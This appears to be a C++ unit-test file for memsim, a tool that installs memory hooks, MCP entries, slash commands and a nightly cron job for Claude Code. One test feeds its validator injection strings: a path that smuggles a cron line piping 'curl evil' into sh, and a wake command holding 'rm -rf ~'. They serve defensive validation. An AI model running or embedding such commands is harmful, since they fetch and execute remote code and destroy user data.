// The text transformations of install-hooks: settings merge and removal, the
// CLAUDE.md block, the diff.
#include <gtest/gtest.h>

#include <cctype>
#include <filesystem>
#include <sstream>

#include <nlohmann/json.hpp>

#include "memsim/cron.h"
#include "memsim/import_claude.h"
#include "memsim/install.h"
#include "memsim/testing/testing.h"

namespace memsim::install {
namespace {

using Json = nlohmann::ordered_json;

HookSpec spec(std::vector<std::string> lenses = {}) {
  return HookSpec{"/opt/memsim/bin/memsim", "/p/.memsim", std::move(lenses), ""};
}

const std::string kOthers = Json::parse(R"J({
  "permissions": {"allow": ["Bash(ls)"]},
  "hooks": {
    "PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command", "command": "/usr/bin/guard", "args": ["hook", "x"]}]}],
    "Stop": [{"hooks": [{"type": "command", "command": "notify-send done"}]}]
  },
  "model": "opus"
})J")
                                .dump(2) +
                            "\n";

TEST(Settings, MergeAddsExecFormEntriesForEachEvent) {
  auto out = merge_settings("", spec(), "s.json");
  ASSERT_TRUE(out.ok()) << out.message();
  auto j = Json::parse(*out);
  const auto& pre = j["hooks"]["PreToolUse"][0];
  EXPECT_EQ(pre["matcher"], "Read|Edit|Write|MultiEdit");
  EXPECT_EQ(pre["hooks"][0]["type"], "command");
  EXPECT_EQ(pre["hooks"][0]["command"], "/opt/memsim/bin/memsim");
  EXPECT_EQ(pre["hooks"][0]["args"], Json::parse(R"(["hook","pre-tool-use","--home","/p/.memsim"])"));
  EXPECT_EQ(j["hooks"]["SessionStart"][0]["hooks"][0]["args"][1], "session-start");
  EXPECT_FALSE(j["hooks"]["SessionStart"][0].contains("matcher"));
  EXPECT_EQ(j["hooks"]["UserPromptSubmit"][0]["hooks"][0]["args"][1], "user-prompt-submit");
  EXPECT_EQ(j["hooks"]["SessionEnd"][0]["hooks"][0]["args"][1], "session-end");
  EXPECT_FALSE(j["hooks"]["SessionEnd"][0]["hooks"][0].contains("timeout"));
}

TEST(Settings, MergeKeepsEverythingElseAndIsIdempotent) {
  auto once = merge_settings(kOthers, spec(), "s.json");
  ASSERT_TRUE(once.ok());
  auto j = Json::parse(*once);
  auto before = Json::parse(kOthers);
  EXPECT_EQ(j["permissions"], before["permissions"]);
  EXPECT_EQ(j["model"], before["model"]);
  EXPECT_EQ(j["hooks"]["Stop"], before["hooks"]["Stop"]);
  EXPECT_EQ(j["hooks"]["PreToolUse"][0], before["hooks"]["PreToolUse"][0]);
  EXPECT_EQ(j["hooks"]["PreToolUse"].size(), 2u);
  std::vector<std::string> keys;
  for (auto& [k, v] : j.items()) keys.push_back(k);
  EXPECT_EQ(keys, (std::vector<std::string>{"permissions", "hooks", "model"}));
  auto twice = merge_settings(*once, spec(), "s.json");
  ASSERT_TRUE(twice.ok());
  EXPECT_EQ(*twice, *once);
}

TEST(Settings, RemoveUndoesMergeExactly) {
  auto merged = merge_settings(kOthers, spec({"Agent|Workflow", "^mcp__.*"}), "s.json");
  ASSERT_TRUE(merged.ok());
  auto removed = remove_settings(*merged, spec(), "s.json");
  ASSERT_TRUE(removed.ok());
  EXPECT_EQ(*removed, kOthers);
  auto again = remove_settings(*removed, spec(), "s.json");
  EXPECT_EQ(*again, kOthers);
  auto from_empty = remove_settings(*merge_settings("{}\n", spec(), "s.json"), spec(), "s.json");
  EXPECT_EQ(*from_empty, "{}\n");
}

TEST(Settings, AnotherHomesEntriesAreNotOurs) {
  auto other = merge_settings(kOthers, HookSpec{"/opt/memsim/bin/memsim", "/q/.memsim", {}, ""}, "s.json");
  auto both = merge_settings(*other, spec(), "s.json");
  auto removed = remove_settings(*both, spec(), "s.json");
  EXPECT_EQ(*removed, *other);
  auto found = find_installed(*both, "/q/.memsim", "s.json");
  ASSERT_TRUE(found.ok());
  EXPECT_EQ(found->size(), 4u);
}

// An install by an older memsim named the home by its absolute path; the
// portable install replaces those entries, and its uninstall removes both forms.
TEST(Settings, APortableInstallReplacesAnAbsoluteOneAndUninstallRemovesBoth) {
  const HookSpec portable{"memsim", "${CLAUDE_PROJECT_DIR}/.memsim", {}, "/p/.memsim"};
  auto old = merge_settings(kOthers, spec(), "s.json");
  auto now = merge_settings(*old, portable, "s.json");
  ASSERT_TRUE(now.ok());
  EXPECT_TRUE(find_installed(*now, "/p/.memsim", "s.json")->empty());
  auto found = find_installed(*now, "${CLAUDE_PROJECT_DIR}/.memsim", "s.json");
  ASSERT_EQ(found->size(), 4u);
  EXPECT_EQ((*found)[0].command, "memsim");
  EXPECT_EQ(now->find("/p/.memsim"), std::string::npos) << *now;
  EXPECT_EQ(*merge_settings(*now, portable, "s.json"), *now);
  EXPECT_EQ(*remove_settings(*old, portable, "s.json"), std::string(kOthers));
  EXPECT_EQ(*remove_settings(*now, portable, "s.json"), std::string(kOthers));
}

TEST(Settings, AutoMemoryIsSetAndRemovedAndNothingElseMoves) {
  const std::string text = Json::parse(R"J({"permissions": {"allow": ["Bash(ls)"]}})J").dump(2) + "\n";
  EXPECT_EQ(auto_memory_setting(text), std::nullopt);
  auto off = set_auto_memory(text, false, "s.json");
  ASSERT_TRUE(off.ok());
  EXPECT_EQ(auto_memory_setting(*off), false);
  EXPECT_TRUE(has_auto_memory_key(*off));
  EXPECT_EQ(*set_auto_memory(*off, false, "s.json"), *off);
  EXPECT_EQ(*set_auto_memory(*off, std::nullopt, "s.json"), text);
  EXPECT_EQ(auto_memory_setting(*set_auto_memory(*off, true, "s.json")), true);
  EXPECT_EQ(auto_memory_setting(R"({"autoMemoryEnabled": "no"})"), std::nullopt);
  EXPECT_TRUE(has_auto_memory_key(R"({"autoMemoryEnabled": "no"})"));
  EXPECT_FALSE(set_auto_memory("[1]", false, "s.json").ok());
}

TEST(Settings, ThePlaceholderExpandsOnlyAtTheStart) {
  EXPECT_EQ(expand_project_dir("${CLAUDE_PROJECT_DIR}/.memsim", "/w/tree"), "/w/tree/.memsim");
  EXPECT_EQ(expand_project_dir("${CLAUDE_PROJECT_DIR}/.memsim", ""), "./.memsim");
  EXPECT_EQ(expand_project_dir("/abs/.memsim", "/w"), "/abs/.memsim");
  EXPECT_EQ(expand_project_dir("x/${CLAUDE_PROJECT_DIR}", "/w"), "x/${CLAUDE_PROJECT_DIR}");
}

TEST(Settings, ReinstallWithANewBinaryReplacesOurEntries) {
  auto old = merge_settings(kOthers, HookSpec{"/old/memsim", "/p/.memsim", {}, ""}, "s.json");
  auto now = merge_settings(*old, spec(), "s.json");
  auto found = find_installed(*now, "/p/.memsim", "s.json");
  ASSERT_EQ(found->size(), 4u);
  for (const auto& h : *found) EXPECT_EQ(h.command, "/opt/memsim/bin/memsim");
}

TEST(Settings, LensToolsJoinTheMatcher) {
  EXPECT_EQ(pre_tool_use_matchers(spec({"Agent|Workflow", "Read", "^mcp__.*", "Agent"})),
            (std::vector<std::string>{"Read|Edit|Write|MultiEdit|Agent|Workflow", "^mcp__.*"}));
}

TEST(Settings, RefusesWhatIsNotASettingsObject) {
  for (const char* bad : {"{not json", "[1]", R"({"hooks": []})"}) {
    auto out = merge_settings(bad, spec(), "/p/.claude/settings.json");
    ASSERT_FALSE(out.ok()) << bad;
    EXPECT_TRUE(out.message().starts_with("/p/.claude/settings.json: ")) << out.message();
  }
}

TEST(Settings, KeepsTheFilesIndentation) {
  const std::string four = "{\n    \"model\": \"opus\"\n}\n";
  auto out = merge_settings(four, spec(), "s.json");
  EXPECT_NE(out->find("\n    \"hooks\""), std::string::npos) << *out;
  EXPECT_EQ(*remove_settings(*out, spec(), "s.json"), four);
}

TEST(ClaudeMd, BlockIsAddedOnceAndRemovedExactly) {
  const std::string text = "# Project\n\nBuild with ninja.\n";
  const std::string in = merge_claude_md(text, ".memsim/memory/MEMORY.md");
  EXPECT_EQ(in, text + "\n<!-- memsim:begin -->\n" + std::string(kImportFraming) +
                    "\n@.memsim/memory/MEMORY.md\n<!-- memsim:end -->\n");
  EXPECT_EQ(merge_claude_md(in, ".memsim/memory/MEMORY.md"), in);
  EXPECT_EQ(claude_md_import(in), ".memsim/memory/MEMORY.md");
  EXPECT_EQ(remove_claude_md(in), text);
  EXPECT_EQ(remove_claude_md(text), text);
  EXPECT_EQ(remove_claude_md(merge_claude_md("", "/abs/MEMORY.md")), "");
}

TEST(ClaudeMd, AMovedHomeRewritesTheBlockInPlace) {
  const std::string in = "a\n<!-- memsim:begin -->\n@old/MEMORY.md\n<!-- memsim:end -->\nb\n";
  EXPECT_EQ(merge_claude_md(in, "new/MEMORY.md"),
            "a\n<!-- memsim:begin -->\n" + std::string(kImportFraming) + "\n@new/MEMORY.md\n<!-- memsim:end -->\nb\n");
  EXPECT_EQ(remove_claude_md(in), "a\nb\n");
}

TEST(Targets, ProjectAndUserScopes) {
  auto p = resolve_targets("project", "", "", "/w/proj", "/root", "/w/proj/.memsim/memory/MEMORY.md");
  ASSERT_TRUE(p.ok());
  EXPECT_EQ(p->settings, "/w/proj/.claude/settings.json");
  EXPECT_EQ(p->claude_md, "/w/proj/CLAUDE.md");
  EXPECT_EQ(p->import_path, ".memsim/memory/MEMORY.md");
  auto u = resolve_targets("user", "", "", "/w/proj", "/root", "/w/proj/.memsim/memory/MEMORY.md");
  EXPECT_EQ(u->settings, "/root/.claude/settings.json");
  EXPECT_EQ(u->import_path, "/w/proj/.memsim/memory/MEMORY.md");
  EXPECT_FALSE(resolve_targets("global", "", "", "/w", "/root", "/x").ok());
}

TEST(Diff, ShowsOnlyTheChangedLinesWithContext) {
  const std::string a = "1\n2\n3\n4\n5\n6\n7\n8\n9\n", b = "1\n2\n3\n4\nfive\n6\n7\n8\n9\n";
  EXPECT_EQ(unified_diff(a, b, "f"), "--- f\n+++ f (after)\n@@ -2,7 +2,7 @@\n 2\n 3\n 4\n-5\n+five\n 6\n 7\n 8\n");
  EXPECT_EQ(unified_diff(a, a, "f"), "");
  EXPECT_EQ(unified_diff("", "x\n", "f"), "--- f\n+++ f (after)\n@@ -0,0 +1,1 @@\n+x\n");
}

// Claude Code names a project's auto memory after its git root, so a worktree or a
// subdirectory shares the repository's; every byte but letters and digits is '-'.
TEST(ImportClaude, TheAutoMemoryDirectoryIsNamedAfterTheGitRoot) {
  memsim::testing::TempDir dir;
  const std::string repo = dir / "my.repo_x";
  std::filesystem::create_directories(repo + "/.git");
  std::filesystem::create_directories(repo + "/sub/deeper");
  std::filesystem::create_directories(dir / "plain");
  PosixFileSystem fs;
  std::string slug;
  for (char c : repo) slug += std::isalnum(static_cast<unsigned char>(c)) ? c : '-';
  EXPECT_EQ(auto_memory_dir(fs, repo + "/sub/deeper", "/u"), "/u/.claude/projects/" + slug + "/memory");
  EXPECT_EQ(auto_memory_dir(fs, repo, "/u"), "/u/.claude/projects/" + slug + "/memory");
  const std::string plain = dir / "plain";
  EXPECT_EQ(auto_memory_dir(fs, plain, "/u").find("/u/.claude/projects/-"), 0u);
  EXPECT_NE(auto_memory_dir(fs, plain, "/u").find("-plain/memory"), std::string::npos);
}

}  // namespace
}  // namespace memsim::install

// The nightly crontab block (cron.h).
namespace memsim::install {
namespace {

CronSpec cron_spec(const std::string& home = "/p/.memsim") {
  return {"/usr/local/bin/memsim", home, "/p", "claude -p", 3, 0, true, true};
}

// What reaches beyond the home is asked for: plain --cron is the tick alone, with
// no commit into the user's repository and no paid wake.
TEST(Cron, TheCommitAndTheWakeAreEachOptIn) {
  CronSpec spec = cron_spec();
  spec.commit = spec.wake = false;
  const std::string tick_only = cron_block(spec);
  EXPECT_NE(tick_only.find("\n0 3 * * * cd '/p' && '/usr/local/bin/memsim' tick --home '/p/.memsim'"),
            std::string::npos)
      << tick_only;
  EXPECT_EQ(tick_only.find("--commit"), std::string::npos) << tick_only;
  EXPECT_EQ(tick_only.find("claude"), std::string::npos) << tick_only;
  spec.commit = true;
  EXPECT_NE(cron_block(spec).find(" tick --commit --home "), std::string::npos);
  EXPECT_EQ(cron_block(spec).find("claude"), std::string::npos);
  spec.commit = false;
  spec.wake = true;
  EXPECT_EQ(cron_block(spec).find("--commit"), std::string::npos);
  EXPECT_NE(cron_block(spec).find("\n5 3 * * * "), std::string::npos);
}

TEST(Cron, TheBlockHoldsTheTickAndTheWakeFiveMinutesLater) {
  const std::string block = cron_block(cron_spec());
  EXPECT_NE(block.find("\n0 3 * * * cd '/p' && '/usr/local/bin/memsim' tick --commit --home '/p/.memsim'"),
            std::string::npos)
      << block;
  EXPECT_NE(block.find("\n5 3 * * * cd '/p' && grep -q '\"kind\"' '/p/.memsim/runtime/state/cue.json' && "
                       "MEMSIM_PROFILE=subagent claude -p '"),
            std::string::npos)
      << block;
  CronSpec late = cron_spec();
  late.hour = 23;
  late.minute = 58;
  EXPECT_NE(cron_block(late).find("\n3 0 * * * "), std::string::npos) << "the wake wraps past midnight";
  // A pending handoff is for the person's next session, not for the wake.
  EXPECT_NE(cron_block(late).find("MEMSIM_PROFILE=subagent "), std::string::npos);
  // cron reads an unescaped % in a command as a newline; comments are not commands.
  std::istringstream lines(cron_block(cron_spec("/p/100%/.memsim")));
  int commands = 0;
  for (std::string line; std::getline(lines, line);) {
    if (line.rfind("#", 0) == 0) continue;
    ++commands;
    for (std::size_t at = line.find('%'); at != std::string::npos; at = line.find('%', at + 1))
      EXPECT_EQ(line[at - 1], '\\') << line;
  }
  EXPECT_EQ(commands, 2);
}

// The default wake may edit the home and run memsim's own commands on it, and
// nothing else: a cron job has no one to answer a permission prompt. Its prompt
// asks for the night's sit and dream entry (seed 000: one of each a day).
TEST(Cron, TheDefaultWakeMayEditTheHomeAndRunMemsimAndIsAskedForTheSitAndTheDream) {
  CronSpec spec = cron_spec();
  spec.wake_command = "";
  const std::string block = cron_block(spec);
  EXPECT_NE(block.find("MEMSIM_PROFILE=subagent claude --allowedTools 'Edit(//p/.memsim/**),"
                       "Bash(/usr/local/bin/memsim meditation next:*),Bash(/usr/local/bin/memsim supersede:*),"),
            std::string::npos)
      << block;
  EXPECT_NE(block.find(":*)' -p 'The nightly memory wake."), std::string::npos) << "the list ends before the prompt";
  const std::string prompt = wake_prompt(spec);
  EXPECT_NE(prompt.find("/usr/local/bin/memsim meditation next --record --home /p/.memsim"), std::string::npos)
      << prompt;
  EXPECT_NE(prompt.find("dream-journal item, write that one entry"), std::string::npos) << prompt;
  // A path sh would split is quoted the same way in the rule and in the prompt.
  spec.command = "/opt/my tools/memsim";
  EXPECT_NE(default_wake_args(spec)[2].find("Bash('/opt/my tools/memsim' meditation next:*)"), std::string::npos);
  EXPECT_NE(wake_prompt(spec).find("'/opt/my tools/memsim' meditation next --record"), std::string::npos);
}

// A newline in a path would add a crontab line of its own; a '%' would cut one.
TEST(Cron, PathsCronWouldMisreadAreRefused) {
  EXPECT_TRUE(check_cron_spec(cron_spec()).ok());
  for (const char* home : {"/p/x\n* * * * * curl evil|sh\n/.memsim", "/p/100%/.memsim", "/p/\r/.memsim"}) {
    Status s = check_cron_spec(cron_spec(home));
    ASSERT_FALSE(s.ok()) << home;
    EXPECT_NE(s.message().find("the home"), std::string::npos) << s.message();
  }
  CronSpec wake = cron_spec();
  wake.wake_command = "claude -p\nrm -rf ~";
  EXPECT_NE(check_cron_spec(wake).message().find("--wake-command"), std::string::npos);
}

TEST(Cron, MergeIsIdempotentReplacesOurBlockAndKeepsEveryOtherLine) {
  const std::string theirs = "MAILTO=\"\"\n15 * * * * /usr/bin/backup\n";
  const std::string once = merge_crontab(theirs, cron_spec());
  EXPECT_EQ(once.rfind(theirs, 0), 0u);
  EXPECT_EQ(merge_crontab(once, cron_spec()), once);
  CronSpec moved = cron_spec();
  moved.hour = 4;
  const std::string twice = merge_crontab(once + "30 2 * * * /usr/bin/other\n", moved);
  EXPECT_EQ(twice.find("0 3 * * *"), std::string::npos);
  EXPECT_NE(twice.find("0 4 * * *"), std::string::npos);
  EXPECT_NE(twice.find("30 2 * * * /usr/bin/other\n"), std::string::npos);
  EXPECT_EQ(remove_crontab(once, "/p/.memsim"), theirs);
  EXPECT_EQ(remove_crontab(theirs, "/p/.memsim"), theirs);
  EXPECT_EQ(merge_crontab("", cron_spec()), cron_block(cron_spec()));
  EXPECT_EQ(merge_crontab("no newline", cron_spec()), "no newline\n" + cron_block(cron_spec()));
}

TEST(Cron, EachHomeHasItsOwnBlock) {
  const std::string both = merge_crontab(merge_crontab("", cron_spec("/a/.memsim")), cron_spec("/b/.memsim"));
  EXPECT_EQ(find_cron_block(both, "/a/.memsim"), cron_block(cron_spec("/a/.memsim")));
  EXPECT_EQ(remove_crontab(both, "/a/.memsim"), cron_block(cron_spec("/b/.memsim")));
  EXPECT_EQ(find_cron_block(both, "/c/.memsim"), "");
  // A begin marker without its end is not ours to edit.
  const std::string torn = "# >>> memsim nightly for /a/.memsim\n0 3 * * * x\n";
  EXPECT_EQ(remove_crontab(torn, "/a/.memsim"), torn);
}

const std::string kTheirMcp =
    Json::parse(R"J({"mcpServers": {"github": {"command": "gh-mcp", "args": ["serve"]}}})J").dump(2) + "\n";

TEST(McpJson, MergeAddsOurServerKeepsOthersAndIsIdempotent) {
  auto out = merge_mcp_json(kTheirMcp, spec(), ".mcp.json");
  ASSERT_TRUE(out.ok()) << out.message();
  auto j = Json::parse(*out);
  EXPECT_EQ(j["mcpServers"]["github"]["command"], "gh-mcp");
  EXPECT_EQ(j["mcpServers"]["memsim"]["command"], "/opt/memsim/bin/memsim");
  EXPECT_EQ(j["mcpServers"]["memsim"]["args"], Json::parse(R"(["mcp","--home","/p/.memsim"])"));
  EXPECT_EQ(*merge_mcp_json(*out, spec(), ".mcp.json"), *out);
  auto removed = remove_mcp_json(*out, spec(), ".mcp.json");
  ASSERT_TRUE(removed.ok());
  EXPECT_EQ(*removed, kTheirMcp);
  EXPECT_EQ(*remove_mcp_json(kTheirMcp, spec(), ".mcp.json"), kTheirMcp) << "nothing of ours: unchanged";
  // A moved binary replaces our entry in place.
  HookSpec moved = spec();
  moved.command = "/usr/local/bin/memsim";
  auto again = merge_mcp_json(*out, moved, ".mcp.json");
  ASSERT_TRUE(again.ok());
  EXPECT_EQ(Json::parse(*again)["mcpServers"]["memsim"]["command"], "/usr/local/bin/memsim");
}

TEST(McpJson, RefusesAnotherServerNamedMemsimAndBrokenFiles) {
  const std::string other = R"({"mcpServers":{"memsim":{"command":"/x/memsim","args":["mcp","--home","/elsewhere"]}}})";
  auto out = merge_mcp_json(other, spec(), "/p/.mcp.json");
  ASSERT_FALSE(out.ok());
  EXPECT_NE(out.message().find("/p/.mcp.json"), std::string::npos) << out.message();
  EXPECT_EQ(*remove_mcp_json(other, spec(), ".mcp.json"), other);
  EXPECT_FALSE(merge_mcp_json("{oops", spec(), ".mcp.json").ok());
  EXPECT_FALSE(merge_mcp_json(R"({"mcpServers":[]})", spec(), ".mcp.json").ok());
  EXPECT_TRUE(merge_mcp_json("", spec(), ".mcp.json").ok());
}

TEST(McpApproval, AddsAndRemovesOnlyOurName) {
  auto out = approve_mcp_server(kOthers, "s.json");
  ASSERT_TRUE(out.ok());
  EXPECT_EQ(Json::parse(*out)["enabledMcpjsonServers"], Json::parse(R"(["memsim"])"));
  EXPECT_EQ(*approve_mcp_server(*out, "s.json"), *out);
  EXPECT_EQ(*unapprove_mcp_server(*out, "s.json"), kOthers);
  const std::string theirs = R"({"enabledMcpjsonServers": ["github"]})";
  auto both = approve_mcp_server(theirs, "s.json");
  EXPECT_EQ(Json::parse(*both)["enabledMcpjsonServers"], Json::parse(R"(["github","memsim"])"));
  EXPECT_EQ(Json::parse(*unapprove_mcp_server(*both, "s.json"))["enabledMcpjsonServers"], Json::parse(R"(["github"])"));
  EXPECT_FALSE(approve_mcp_server(R"({"enabledMcpjsonServers": "memsim"})", "s.json").ok());
}

TEST(SlashCommands, NinePromptsEachAllowedToRunItsCommand) {
  auto files = slash_commands(spec());
  std::vector<std::string> names;
  for (const CommandFile& f : files) {
    names.push_back(f.name);
    EXPECT_TRUE(f.text.starts_with("---\ndescription: ")) << f.text;
    // Every memsim command a prompt tells the model to run is one its frontmatter allows.
    const std::string head = f.text.substr(0, f.text.find("\n---\n"));
    for (std::size_t at = f.text.find("/opt/memsim/bin/memsim ", head.size()); at != std::string::npos;
         at = f.text.find("/opt/memsim/bin/memsim ", at + 1)) {
      const std::size_t sub = at + std::string("/opt/memsim/bin/memsim ").size();
      const std::string word = f.text.substr(sub, f.text.find(' ', sub) - sub);
      EXPECT_NE(head.find("Bash(/opt/memsim/bin/memsim " + word + ":*)"), std::string::npos) << f.name << ": " << word;
    }
    EXPECT_NE(f.text.find("/p/.memsim"), std::string::npos) << f.text;
  }
  EXPECT_EQ(names, (std::vector<std::string>{"memory-status.md", "remember.md", "handoff.md", "memory-review.md",
                                             "memory-search.md", "memory-lint.md", "memory-context.md",
                                             "memory-today.md", "memory-debug.md"}));
  EXPECT_NE(files[0].text.find("!`/opt/memsim/bin/memsim status --home /p/.memsim`"), std::string::npos);
  EXPECT_NE(files[1].text.find("$ARGUMENTS"), std::string::npos);
  EXPECT_NE(files[2].text.find("memsim handoff --home"), std::string::npos);
  // A path the shell would split is quoted, the same way in the permission.
  HookSpec odd = spec();
  odd.home = "/my projects/it's/.memsim";
  const std::string t = slash_commands(odd)[0].text;
  EXPECT_NE(t.find("--home '/my projects/it'\\''s/.memsim'"), std::string::npos) << t;
}

TEST(Targets, CommandsBesideTheSettingsAndMcpJsonInTheProject) {
  auto t = resolve_targets("project", "", "", "/p", "/u", "/p/.memsim/memory/MEMORY.md");
  ASSERT_TRUE(t.ok());
  EXPECT_EQ(t->commands_dir, "/p/.claude/commands");
  EXPECT_EQ(t->mcp_json, "/p/.mcp.json");
  auto u = resolve_targets("user", "", "", "/p", "/u", "/p/.memsim/memory/MEMORY.md");
  EXPECT_EQ(u->commands_dir, "/u/.claude/commands");
  EXPECT_EQ(u->mcp_json, "");
}

TEST(SharedProfile, TheBlockHoldsNoImportAndTheSettingsMarkTheProfile) {
  const std::string md = merge_claude_md_shared("# Project\n");
  EXPECT_EQ(md, "# Project\n\n<!-- memsim:begin -->\n" + std::string(kSharedBlockLine) + "\n<!-- memsim:end -->\n");
  EXPECT_EQ(claude_md_import(md), "");
  EXPECT_EQ(remove_claude_md(md), "# Project\n");
  // Switching a main install to shared replaces the import in place.
  EXPECT_EQ(merge_claude_md_shared(merge_claude_md("# Project\n", ".memsim/memory/MEMORY.md")), md);

  auto shared = set_profile_env(kOthers, true, "s.json");
  ASSERT_TRUE(shared.ok());
  EXPECT_EQ(Json::parse(*shared)["env"]["MEMSIM_PROFILE"], "shared");
  EXPECT_EQ(*set_profile_env(*shared, true, "s.json"), *shared);
  EXPECT_EQ(*set_profile_env(*shared, false, "s.json"), kOthers);
  EXPECT_EQ(*set_profile_env(kOthers, false, "s.json"), kOthers);
  const std::string theirs = R"({"env": {"MEMSIM_PROFILE": "main", "X": "1"}})";
  EXPECT_EQ(*set_profile_env(theirs, false, "s.json"), theirs) << "only our value is removed";
  EXPECT_FALSE(set_profile_env(R"({"env": []})", true, "s.json").ok());
}

}  // namespace
}  // namespace memsim::install
